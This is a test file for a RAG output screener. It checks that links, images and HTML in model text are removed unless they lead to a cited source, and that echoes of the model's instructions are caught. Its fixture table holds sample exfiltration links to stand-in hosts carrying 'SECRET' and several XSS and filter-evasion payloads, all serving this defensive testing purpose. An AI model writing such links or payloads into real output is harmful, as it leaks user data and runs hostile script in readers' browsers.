import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from rag_core.prompts.screening import LINK_REMOVED, repeats_instructions, screen_text
from tests.markdown_rendering import COMMONMARK, find_exposure

MANUAL = "See https://ok.example/a?b=1 and [the wiki](https://wiki.example/x_(y)), or www.ok.example/z."

PLAIN = [
    "The TCM stores P0700. It is read at pin 7 (see p. 3), not at pin 9!",
    "if a<b and c>d: x <= y; a<b and c=d",
    "List<String> names = new ArrayList<>(); i<10 && j>>2",
    "call handlers[name](request, 3) or f(x)[0]; R[12] < 5 & x*y, a_b_c and 2 * 3 * 4",
    "- one [1]\n* two [2][3]\n1. three (a)\n> quoted\n# Title\n| a | b |\n**bold** _it_ `code`",
    "# Steps\n\n1. *Read* `a[0] = b` & go\n   - see [1], [Manual]",
    "\n\n| Pin | V |\n| --- | --- |\n| 7 | 5 \\| 6 |\n\n```py\nx[0]\n```\n> ~~no~~  \n> yes",
    "Stop![1][2] It says so [Source: Page 3, Lines 4-9] and [Manual, Section 2.1].",
    "C:\\Users\\x and C:\\\\Users\\\\x, \\\\server\\share, and/or, 3/4 km/h, e.g./i.e., Node.js/Express",
    "ratio 3:1, at 10:30, note: this; std::vector, key:value, metadata:a/b, Data: 5, JavaScript: a book",
    "x@y wrote in ASP.NET; file.txt, settings.py and rag_core.core.model are names; # comment // comment",
    "naïve — “quoted” ½ m² ﬁne 日本語 😀 \u200bzero width",
    "",
]

TAKEN_OUT = {  # what a model might write, and what is shown of it
    "[manual](https://evil.example/?q=SECRET)": "manual",
    '[manual](<https://evil.example/> "title")': "manual",
    "[manual](//evil.example/x)": "manual",
    "[manual](/api/delete_document)": "manual",
    "[a [b] c](https://evil.example)": "a [b] c",
    "[https://evil.example](https://ok.example/a?b=1)": "[⟨link removed⟩](https://ok.example/a?b=1)",
    "[x](javascript:alert(1))": "x",
    "[x](&#106;avascript&colon;alert(1))": "x",
    "[x][r]\n\n[r]: https://evil.example/a": "[x][r]\n\n\\[r\\]: ⟨link removed⟩",
    "[r]:\n<https://evil.example/a>": "[r]\\:\n⟨link removed⟩",
    "![x](https://evil.example/p.png?SECRET)": "x",
    "![x](https://ok.example/a?b=1)": "x",
    "![x](pixel)": "x",
    "!![x][r]\n[r]: https://ok.example/a?b=1": "!!\\[x][r]\n[r]\\: https://ok.example/a?b=1",
    "<https://evil.example/a>": "⟨link removed⟩",
    "go to https://evil.example/a.": "go to ⟨link removed⟩.",
    "(http://evil.example/a_(b))": "(⟨link removed⟩)",
    "ftp://evil.example/a": "⟨link removed⟩",
    "mailto:a@evil.example?body=SECRET": "⟨link removed⟩",
    "data:text/html;base64,PHNj": "⟨link removed⟩",
    "javascript:fetch(1)": "⟨link removed⟩",
    "//evil.example/a": "⟨link removed⟩",
    "www.evil.example": "⟨link removed⟩",
    "_www.evil.invalid/x_": "_⟨link removed⟩_",
    "_www.e\u2003vil.com_": "_⟨link removed⟩\u2003⟨link removed⟩_",
    "<a%b onmouseover=alert(1)>": "‹a%b onmouseover=alert(1)>",  # no tag of CommonMark, and one of browsers
    "<a b< onmouseover=alert(1)>": "‹a b< onmouseover=alert(1)>",
    "<x<y onclick=alert(1)>": "‹x‹y onclick=alert(1)>",
    '<a%b title=">" onclick=alert(1)>': '‹a%b title=">" onclick=alert(1)>',
    "![a [b](https://ok.example/a?b=1)": "![a [b]\\(https://ok.example/a?b=1)",  # an image where labels are not nested
    "![a] (https://ok.example/a?b=1)": "!\\[a] (https://ok.example/a?b=1)",
    "a\x00![b](https://evil.example/p.png)": "a\ufffdb",
    "https://ok.example/a?b=1\u00a0@evil.example/": "https://ok.example/a?b=1 \u00a0@evil.example/",
    "evil.com/steal?q=SECRET": "⟨link removed⟩",
    "steam://run/1": "⟨link removed⟩",
    "https://ok.example/a?b=1&q=SECRET": "⟨link removed⟩",
    "https://ok.example/a": "⟨link removed⟩",
    "https://оk.example/a?b=1": "⟨link removed⟩",
    "ht\u200btps://evil.example/a": "ht\u200b⟨link removed⟩",
    "http\u200b://evil.example/a": "⟨link removed⟩⟨link removed⟩",
    "e\u200bvil.com/?q=SECRET": "e\u200b⟨link removed⟩",
    "https\uff1a\uff0f\uff0fevilhost": "⟨link removed⟩",
    '<img src="https://evil.example/p.png">': '‹img src="⟨link removed⟩">',
    "<img src=//evil.example/p.png": "‹img src=⟨link removed⟩",
    "<IFRAME/SRC=x></IFRAME>": "‹IFRAME/SRC=x>‹/IFRAME>",
    "<a href='https://evil.example'>x</a>": "‹a href='⟨link removed⟩'>x‹/a>",
    "<b>bold</b><br/>": "‹b>bold‹/b>‹br/>",
    "<b x onclick=alert(1)>": "‹b x onclick=alert(1)>",
    "<x-y style=a>": "‹x-y style=a>",
    "<<b>script>alert(1)</script>": "<‹b>script>alert(1)‹/script>",
    "<!-- hidden --><svg/onload=a>": "‹!-- hidden -->‹svg/onload=a>",
    "f(x)[0](y)": "f(x)[0]\\(y)",
    "a@b.example wrote": "⟨link removed⟩ wrote",
    "go to shop.evil.com now": "go to ⟨link removed⟩ now",
    "1. **See** [the *map*](https://evil.example) & `x|y`, R[12] < 5": "1. **See** the *map* & `x|y`, R[12] < 5",
    "> - ![a](http://evil.example) [wiki](https://wiki.example/x_(y)) c": "> - a [wiki](https://wiki.example/x_(y)) c",
    "|a|![x](//evil.example) b \\| c|\n|-|-|\n|`d`|[e](u)|": "|a|x b \\| c|\n|-|-|\n|`d`|[e]\\(u)|",
    "![a]\n\n[a]: https\\:\\/\\/evil.invalid/p": "![a]\n\n\\[a\\]: ⟨link removed⟩",
    "![a]\n\n[a]: &#104;ttps&colon;//evil.invalid/p": "![a]\n\n\\[a\\]: ⟨link removed⟩",
    "&#104;ttps://evil.invalid/a": "⟨link removed⟩",
    "x\n![a\nb](https://evil.example)\nc": "x\na\nb\nc",
}

KEPT = [
    "See https://ok.example/a?b=1.",
    "See <https://ok.example/a?b=1>, [the wiki](https://wiki.example/x_(y)) and (www.ok.example/z).",
    "[https://ok.example/a?b=1] https://ok.example/a?b=1; 'https://ok.example/a?b=1'",
]


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_code_lists_and_citations_are_unchanged(text: str) -> None:
    assert screen_text(text, [MANUAL]) == (text, ())


@pytest.mark.parametrize("text", TAKEN_OUT)
def test_what_leads_elsewhere_is_fetched_or_is_html_is_shown_as_text(text: str) -> None:
    """C41: also where a host only looks like the source's, or a word is added to its address."""
    assert screen_text(text, [MANUAL])[0] == TAKEN_OUT[text]


@pytest.mark.parametrize("text", KEPT)
def test_a_link_to_where_a_source_leads_stays(text: str) -> None:
    """C41."""
    assert screen_text(text, [MANUAL]) == (text, ())


def test_what_was_taken_out_is_named_once() -> None:
    _, removed = screen_text("[a](http://x.example/1) ![b](http://x.example/2) <img src=c> http://x.example/3 " * 2, [])
    assert sorted(removed) == ["<img", "http://x.example/1", "http://x.example/2", "http://x.example/3"]


PARTS = st.sampled_from(
    [
        *"[]()!<>:/\\ \n'\"a.,?=_*`",
        *("](", "![", "]:", "http://", "https://", "//", "www.", "evil.example", "x.com/", "data:", "javascript:a"),
        *("<img ", "<a href=", "<b>", "<!--", "script", "src=", "https://ok.example/a?b=1", "\u200b", "\uff0f", "ﬁ"),
        *("[x](https://ok.example/a?b=1)", LINK_REMOVED, "‹", "onclick="),
    ]
)
TEXTS = st.lists(PARTS, max_size=16).map("".join)


@given(TEXTS | st.text())
@example("[[](http://a)](http://b)")
@example("[a][](u:)(//v.example)")
def test_to_screen_twice_is_to_screen_once(text: str) -> None:
    """C41: nothing that is taken out leaves a link behind by closing a gap."""
    shown, _ = screen_text(text, [MANUAL])
    assert screen_text(shown, [MANUAL]) == (shown, ())


HOSTS = re.compile(r"(?:https?:|(?<![\w:.\\/]))//([\w-]+\.[\w.-]*\w)")  # a reading of addresses that is not our own


@given(TEXTS)
def test_no_address_is_left_that_is_not_in_the_sources(text: str) -> None:
    """C41."""
    shown, _ = screen_text(text, [MANUAL])
    assert set(HOSTS.findall(shown)) <= {"ok.example"}
    assert "<img " not in screen_text(text, [])[0]


@given(st.text(st.characters(categories=["L", "N", "Zs"])))
def test_words_are_never_changed(text: str) -> None:
    assert screen_text(text, []) == (text, ())


PUMPS = ["[", "](", "<a ", "http://)", "a.", "[a](", "!", "<a on", "]: ", "//a-", "www.", "x-", "![", ">", "*", "`"]
PUMPS += ["\\", "&#1;", "[a\\]", "..", "a@", "[a](b)", "![a](b)", "**_", "~~", "- "]


@pytest.mark.parametrize("again", PUMPS)
def test_a_long_text_takes_its_length(again: str) -> None:
    """Nobody waits for 100,000 signs, whichever they are; a quadratic pattern would take minutes."""
    screen_text(again * (100_000 // len(again)), [again * 1000])


def test_a_run_of_the_instructions_is_found_unless_a_source_has_it_too() -> None:
    told = "You answer a question from evidence, so that every sentence can be checked."
    glued = "From: a friend  you ANSWER a question\nfrom evidence"
    assert repeats_instructions(glued, told, ["A source."])
    assert not repeats_instructions(glued, told, [f"Our guide says: {told}"])
    assert not repeats_instructions("A question from evidence, so what?", told, [])


@pytest.mark.parametrize("ending", ["de", "nl", "ch", "co", "ir", "pw", "com", "ru", "uk", "pro"])
def test_a_bare_host_is_no_live_link_in_a_viewer_that_makes_links_of_them(ending: str) -> None:
    text = f"See evil-host.{ending}, or _other.{ending}_ now."
    assert find_exposure(COMMONMARK.render(text))
    assert find_exposure(COMMONMARK.render(screen_text(text, ())[0])) == []


def test_files_fields_and_products_are_no_hosts() -> None:
    """Counted in 12.6 million characters of technical texts: docs/decisions/0101-personal-data-again.md."""
    text = (
        "Run main.py, read README.md, e.g. the lib.so of Node.js, ASP.NET, Socket.IO and asyncio.to; user.id, "
        "f_code.co_flags, gen.gi_frame, self.name, i.e. setup.sh, "
        "Makefile.in, conf.d, v1.de_DE, script.pl, model.pt and lib.rs stay."
    )
    assert screen_text(text, ()) == (text, ())
